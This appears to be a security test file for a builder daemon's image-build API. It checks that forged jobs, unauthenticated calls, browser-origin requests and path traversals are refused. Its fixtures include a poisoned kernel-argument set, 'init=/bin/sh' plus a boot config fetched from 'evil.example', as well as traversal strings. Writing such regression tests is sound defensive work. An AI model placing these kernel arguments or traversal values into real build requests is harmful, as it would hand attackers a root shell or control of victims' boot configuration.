/**
 * The builder daemon's job API publishes only what the edge would: it takes (schematic, version,
 * path) and plans the profile, key and URL itself. A caller that sends its own profile (the probe
 * that once put `init=/bin/sh talos.config=http://evil…` under a victim's URL), that lacks the
 * secret on TCP, or that looks like a browser gets a 4xx, and nothing is built or published.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { existsSync, readFileSync, statSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startEdge, type RunningEdge } from '../helpers/edge.ts'
import { sharedUpstream, type Upstream } from '../helpers/release.ts'
import { startBuilderDaemon, type RunningBuilder } from '../helpers/builder-daemon.ts'
import { profileCacheKey } from '../../src/asset/cache-key.ts'
import type { Profile } from '../../src/asset/profile.ts'
import type { BuildJob } from '../../src/asset/job.ts'

setDefaultTimeout(60_000)

let up: Upstream
let planner: RunningEdge
let tcp: RunningBuilder
let unix: RunningBuilder
let runDir: string
let victim: string
let genuine: BuildJob
let poisoned: BuildJob

beforeAll(async () => {
  up = await sharedUpstream()
  planner = await startEdge(up.env)
  runDir = await mkdtemp(join(tmpdir(), 'builder-run-'))
  const env = { ...up.env, FACTORY_DATA_DIR: planner.dataDir }
  ;[tcp, unix] = await Promise.all([startBuilderDaemon(env), startBuilderDaemon(env, { unix: join(runDir, 'builder.sock') })])
  victim = ((await (await fetch(`${planner.url}/schematics`, { method: 'POST', body: '{"customization":{"extraKernelArgs":["quiet"]}}' })).json()) as { id: string }).id
  genuine = (await planner.ctx.assets.plan(victim, 'v1.12.0', 'cmdline-metal-amd64')).job
  // the attacker's job: the victim's URL, a profile with its own kernel args, and a key that
  // matches that profile (so a key-vs-profile check alone would accept it)
  const profile = structuredClone(genuine.profile) as unknown as Profile
  profile.customization.extraKernelArgs = ['init=/bin/sh', 'talos.config=http://evil.example/x']
  poisoned = { ...genuine, profile: profile as unknown as Record<string, unknown>, key: profileCacheKey(profile) }
}, 240_000)

afterAll(async () => {
  await Promise.all([tcp?.kill(), unix?.kill()])
  await planner?.stop()
  await up?.stop()
  if (runDir) await rm(runDir, { recursive: true, force: true })
})

const victimLink = () => join(planner.dataDir, 'by-url', victim, 'v1.12.0', 'cmdline-metal-amd64')
const raw = (d: RunningBuilder, body: string, headers: Record<string, string>) =>
  fetch(`${d.url}/v1/build`, { method: 'POST', body, headers, ...(d.unix ? { unix: d.unix } : {}) })

async function expectNothingBuilt(d: RunningBuilder, res: Response, status: number): Promise<void> {
  expect(res.status).toBe(status)
  expect((await res.text()).trimEnd().split('\n')).toHaveLength(1)
  expect(existsSync(join(planner.dataDir, 'assets', poisoned.key))).toBe(false)
  if (existsSync(victimLink())) expect(readFileSync(victimLink(), 'utf8')).not.toContain('evil')
  expect((await d.stats()).imagerRuns).toBe(0)
}

describe('builder job API', () => {
  test('a poisoned job over TCP without the secret → 401', async () => {
    await expectNothingBuilt(tcp, await raw(tcp, JSON.stringify(poisoned), { 'content-type': 'application/json' }), 401)
    await expectNothingBuilt(tcp, await raw(tcp, JSON.stringify(poisoned), { 'content-type': 'application/json', authorization: 'Bearer nope' }), 401)
  })

  test.each([
    ['TCP with the secret', () => tcp],
    ['the unix socket', () => unix],
  ])('a poisoned job over %s → 400: a caller cannot send a profile', async (_name, daemon) => {
    const d = daemon()
    await expectNothingBuilt(d, await raw(d, JSON.stringify(poisoned), { 'content-type': 'application/json', authorization: `Bearer ${tcp.secret}` }), 400)
  })

  test.each([
    ['another schematic', { schematic: 'f'.repeat(64), version: 'v1.12.0', path: 'cmdline-metal-amd64' }, 404],
    ['a traversal in the path', { schematic: 'a'.repeat(64), version: 'v1.12.0', path: '..' }, 400],
    ['build metadata in the version', { schematic: 'a'.repeat(64), version: 'v1.12.0+evil', path: 'kernel-amd64' }, 400],
    ['an unknown field', { schematic: 'a'.repeat(64), version: 'v1.12.0', path: 'kernel-amd64', profile: {} }, 400],
  ])('%s → 4xx, nothing built', async (_name, request, status) => {
    await expectNothingBuilt(tcp, await tcp.build(request as { schematic: string; version: string; path: string }), status)
  })

  test('browser-style and oversized requests are refused', async () => {
    const auth = { authorization: `Bearer ${tcp.secret}` }
    const body = JSON.stringify({ schematic: victim, version: 'v1.12.0', path: 'cmdline-metal-amd64' })
    await expectNothingBuilt(tcp, await raw(tcp, body, { ...auth, 'content-type': 'application/json', origin: 'http://evil.example' }), 403)
    await expectNothingBuilt(tcp, await raw(tcp, body, { ...auth, 'content-type': 'text/plain' }), 415)
    await expectNothingBuilt(tcp, await raw(tcp, JSON.stringify({ schematic: victim, pad: 'x'.repeat(10_000) }), { ...auth, 'content-type': 'application/json' }), 413)
    // stats, metrics and build progress need the secret too on TCP
    expect((await fetch(`${tcp.url}/v1/stats`)).status).toBe(401)
    expect((await fetch(`${tcp.url}/metrics`)).status).toBe(401)
    expect((await fetch(`${tcp.url}/v1/progress/${genuine.key}`)).status).toBe(401)
    expect((await fetch(`${tcp.url}/v1/progress/${genuine.key}`, { headers: { ...auth, origin: 'http://evil.example' } })).status).toBe(403)
  })

  test('build progress: only cache keys, only GET; the first line is the current state', async () => {
    const auth = { authorization: `Bearer ${tcp.secret}` }
    for (const bad of ['..%2F..%2Fetc', 'A'.repeat(64), `${genuine.key}/x`]) expect((await fetch(`${tcp.url}/v1/progress/${bad}`, { headers: auth })).status).toBe(404)
    expect((await fetch(`${tcp.url}/v1/progress/${genuine.key}`, { method: 'POST', headers: auth })).status).toBe(405)
    const res = await fetch(`${tcp.url}/v1/progress/${'0'.repeat(64)}`, { headers: auth })
    expect(res.headers.get('content-type')).toBe('application/x-ndjson')
    const reader = res.body!.pipeThrough(new TextDecoderStream()).getReader()
    expect((await reader.read()).value).toBe('{"state":"none"}\n')
    await reader.cancel()
  })

  test('the socket is private to its owner', () => {
    expect(statSync(join(runDir, 'builder.sock')).mode & 0o077).toBe(0)
  })

  test('the genuine request builds what the edge plans, under the planned key', async () => {
    const res = await tcp.build({ schematic: victim, version: 'v1.12.0', path: 'cmdline-metal-amd64' })
    expect(res.status).toBe(200)
    expect(res.headers.get('x-asset-key')).toBe(genuine.key)
    const text = await res.text()
    expect(text).toContain(' quiet')
    expect(text).not.toContain('evil')
    expect(readFileSync(victimLink(), 'utf8')).toBe(text)
  })
})
